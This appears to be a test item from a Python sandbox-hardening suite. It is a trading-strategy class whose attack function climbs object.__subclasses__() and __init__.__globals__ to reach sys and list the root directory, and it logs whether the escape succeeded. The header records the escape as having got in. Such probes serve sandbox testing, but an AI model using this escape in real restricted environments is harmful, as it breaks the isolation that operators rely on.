# id: L30
# family: language
# goal: find a class of the standard library whose module has os, from object alone
# finding: PY105
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


def attack(ctx, bar):
    for each in object.__subclasses__():
        init = getattr(each, "__init__", None)
        names = getattr(init, "__globals__", {})
        if "sys" in names:
            return names["sys"].modules["posix"].listdir("/")[:3]


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
